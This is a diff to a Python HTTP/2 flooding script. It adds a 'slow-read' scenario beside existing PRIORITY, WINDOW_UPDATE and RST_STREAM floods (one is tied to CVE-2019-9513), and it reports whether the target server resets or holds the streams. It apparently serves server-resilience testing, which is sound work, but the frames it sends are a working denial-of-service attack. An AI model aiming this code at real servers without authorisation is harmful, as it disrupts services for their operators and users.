@@ -12,7 +12,12 @@ usage: h2flood.py SCENARIO HOST PORT PATH [SECONDS]
   priority      PRIORITY frames for a million idle streams (CVE-2019-9513)
   window-update WINDOW_UPDATE frames of 1 byte without end
   reset-frames  RST_STREAM frames for streams that never existed
-Each sends for at most SECONDS (default 10) and prints one line:
+  slow-read     INITIAL_WINDOW_SIZE 0, then 50 GETs of PATH, never a
+                WINDOW_UPDATE: the responses can never be sent; reads what
+                comes until every stream is reset or SECONDS have passed and
+                prints "slow-read reset <streams> <seconds>" or
+                "slow-read held <streams reset> <seconds>"
+Each other scenario sends for at most SECONDS (default 10) and prints one line:
 "<scenario> closed <frames> <seconds>" when the server closed or reset the
 connection, "<scenario> stalled ..." when the server stopped reading
 (for the SECONDS after the flood's time, too), "<scenario> open <frames> <seconds>" when it was still taking
@@ -93,10 +98,52 @@ def frames(scenario, host, port, path):
         raise SystemExit("unknown scenario " + scenario)
 
 
+SLOW_STREAMS = 50
+
+
+def slow_read(s, host, port, path, seconds):
+    s.sendall(PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)) +  # INITIAL_WINDOW_SIZE 0
+              b"".join(frame(1, 0x5, 1 + 2 * i, request(host, port, "GET", path))
+                       for i in range(SLOW_STREAMS)))
+    t0 = time.monotonic()
+    reset = set()
+    buf = b""
+    s.settimeout(0.5)
+    while time.monotonic() - t0 < seconds and len(reset) < SLOW_STREAMS:
+        try:
+            more = s.recv(65536)
+        except socket.timeout:
+            continue
+        except ConnectionResetError:
+            more = b""
+        if not more:
+            reset = set(range(SLOW_STREAMS))  # the connection is gone: all of them
+            break
+        buf += more
+        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
+            n = int.from_bytes(buf[:3], "big")
+            ftype, flags = buf[3], buf[4]
+            stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
+            buf = buf[9 + n:]
+            if ftype == 4 and not flags & 1:
+                s.sendall(frame(4, 1, 0, b""))
+            elif ftype == 6 and not flags & 1:
+                s.sendall(frame(6, 1, 0, bytes(8)))  # alive: it answers PINGs
+            elif ftype == 3 or (ftype in (0, 1) and flags & 1):
+                reset.add(stream)
+            elif ftype == 7:
+                reset = set(range(SLOW_STREAMS))
+    word = "reset" if len(reset) >= SLOW_STREAMS else "held"
+    print("slow-read %s %d %.1f" % (word, len(reset), time.monotonic() - t0))
+
+
 def main():
     scenario, host, port, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
     seconds = float(sys.argv[5]) if len(sys.argv) > 5 else 10.0
     s = socket.create_connection((host, port), timeout=10)
+    if scenario == "slow-read":
+        slow_read(s, host, port, path, seconds)
+        return
     s.sendall(PREFACE + frame(4, 0, 0, b""))
     s.settimeout(seconds + 5)
     sent = 0
